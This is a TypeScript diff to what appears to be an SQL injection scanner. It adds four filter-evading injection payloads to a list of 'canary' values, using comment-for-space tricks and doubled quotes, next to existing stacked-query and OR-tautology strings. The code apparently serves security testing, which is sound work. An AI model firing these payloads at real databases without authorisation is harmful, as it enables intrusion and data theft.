@@ -59,9 +59,13 @@ export function asAddress(payload: string, random: Random): string[] {
   return [`"${payload}"@${domain}`, `${payload.replaceAll(' ', '/**/')}@${domain}`];
 }
 
-/** Values that run the canary if they end up in the text of a statement: as a string's content, in several quotings. */
+/**
+ * Values that run the canary if they end up in the text of a statement: as a string's content, in several quotings.
+ * The last four are for apps that double the first quote only and refuse what their authors have seen in attacks.
+ */
 export function canaryValues(canary: Canary): string[] {
   const { expression, unquoted } = canary;
+  const moves = `${expression}>0`;
   return [
     `x'||${expression}||'y`,
     `x'||${unquoted}||'y`,
@@ -71,6 +75,10 @@ export function canaryValues(canary: Canary): string[] {
     `x' AND ${expression}>0 AND 'a'='a`,
     `x');select ${expression};--`,
     `x';select ${expression};--`,
+    `x'/**/or/**/${moves}/**/or/**/'a'='a`,
+    `x')/**/or/**/${moves}/**/or/**/('a'='a`,
+    `x''/**/or/**/${moves}/**/or/**/'a'='a`,
+    `x'')/**/or/**/${moves}/**/or/**/('a'='a`,
   ];
 }
 
